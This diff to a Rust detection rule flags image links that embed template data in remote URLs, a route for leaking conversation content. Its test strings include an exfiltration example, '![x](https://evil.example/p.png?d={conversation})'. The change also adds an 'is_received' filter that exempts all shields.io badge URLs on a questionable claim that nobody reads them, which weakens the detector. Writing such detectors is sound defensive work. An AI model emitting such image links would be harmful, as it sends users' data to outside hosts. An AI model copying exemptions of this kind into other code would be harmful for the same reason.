@@ -1,5 +1,4 @@
 use crate::diagnostics::Severity;
-use crate::rules::any;
 use crate::rules::{Confidence, Family, Matcher, Rule};
 
 pub(crate) const RULE: Rule = Rule {
@@ -40,7 +39,7 @@ pub(crate) const RULE: Rule = Rule {
             # the same as HTML
           | <img[^<>\n]*src\s*=\s*['\x22]?https?://[^>\n'\x22]*(?:\{\{?[^{}\n]+\}|\$\{)
         ",
-        keep: any,
+        keep: is_received,
     },
     hits: &[
         "![x](https://evil.example/p.png?d={conversation})",
@@ -54,5 +53,11 @@ pub(crate) const RULE: Rule = Rule {
         "![badge](https://img.shields.io/badge/x-y?style=flat)",
         "![Token](https://img.shields.io/badge/$A-B?style=flat&logo=data:image/png;base64,AA)",
         "![CI](https://ci.example/{owner}/{repo}/badge.svg)",
+        "![View](https://img.shields.io/badge/View-context.json-blue?logo=JSON)",
     ],
 };
+
+/// Whether the host keeps what it is sent. A badge is drawn from its address, and nobody reads that.
+fn is_received(text: &str) -> bool {
+    !text.contains("//img.shields.io/badge/")
+}
